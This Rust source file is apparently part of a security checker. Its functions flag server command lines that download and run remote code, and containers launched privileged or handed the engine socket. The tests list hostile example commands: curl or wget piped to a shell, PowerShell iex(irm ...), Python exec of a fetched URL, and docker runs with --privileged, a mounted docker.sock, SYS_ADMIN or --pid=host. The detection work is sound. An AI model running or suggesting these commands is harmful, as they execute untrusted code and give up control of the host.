//! What a command line does beside starting a server: runs code from the network, takes the machine.

use crate::hidden::{Technique, script_hazards};

/// Whether a command line fetches something from the network and runs it: what runs then is whatever the other side sends at
/// that moment. Lines of shells and interpreters are read as a script is.
pub(crate) fn fetches_code(program: &str, args: &[String]) -> bool {
    let line = std::iter::once(program)
        .chain(args.iter().map(String::as_str))
        .collect::<Vec<_>>()
        .join(" ");
    line.lines().any(|l| {
        script_hazards(l)
            .iter()
            .any(|h| h.technique == Technique::RemoteScript)
    })
}

/// Whether a container is started without confinement, or is handed the socket of the engine, which is the same.
pub(crate) fn is_privileged(runner: &str, args: &[String]) -> bool {
    const SOCKETS: [&str; 4] = ["docker.sock", "podman.sock", "containerd.sock", "crio.sock"];
    const ADDED: [&str; 4] = ["ALL", "SYS_ADMIN", "SYS_PTRACE", "SYS_MODULE"];
    if !matches!(runner, "docker" | "podman" | "nerdctl") {
        return false;
    }
    let before = |i: usize| {
        i.checked_sub(1)
            .and_then(|j| args.get(j))
            .map_or("", String::as_str)
    };
    args.iter().enumerate().any(|(i, a)| {
        let added = a
            .strip_prefix("--cap-add=")
            .or_else(|| (before(i) == "--cap-add").then_some(a.as_str()));
        a == "--privileged"
            || a == "--privileged=true"
            || SOCKETS.iter().any(|s| a.contains(s))
            || added.is_some_and(|c| ADDED.contains(&c.trim_start_matches("CAP_")))
            || matches!(a.as_str(), "--pid=host" | "--ipc=host")
            || (before(i) == "--pid" && a == "host")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        line.split('|').map(|w| w.trim().replace("PIPE", "|")).collect()
    }

    #[test]
    fn command_lines_that_fetch_what_they_run() {
        for (program, args, fetches) in [
            ("bash", "-c | curl -fsSL https://a.example/x PIPE sh", true),
            (
                "/bin/sh",
                "-c | wget -qO- http://a.example/x PIPE sudo bash",
                true,
            ),
            ("powershell", "-Command | iex (irm https://a.example/x.ps1)", true),
            (
                "python3",
                "-c | exec(urllib.request.urlopen('https://a.example/x').read())",
                true,
            ),
            (
                "bash",
                "-c | curl -fsSL https://a.example/health && node server.js",
                false,
            ),
            ("npx", "-y | @acme/server@1.2.3", false),
        ] {
            assert_eq!(fetches_code(program, &words(args)), fetches, "{program} {args}");
        }
    }

    #[test]
    fn containers_without_confinement() {
        for (args, privileged) in [
            ("run | --privileged | acme/x", true),
            (
                "run | -v | /var/run/docker.sock:/var/run/docker.sock | acme/x",
                true,
            ),
            ("run | --cap-add | SYS_ADMIN | acme/x", true),
            ("run | --pid=host | acme/x", true),
            ("run | -i | --rm | -v | ./docs:/docs:ro | acme/x", false),
            ("run | --cap-add | NET_BIND_SERVICE | acme/x", false),
        ] {
            assert_eq!(is_privileged("docker", &words(args)), privileged, "{args}");
        }
        assert!(!is_privileged("npx", &words("--privileged")));
    }
}
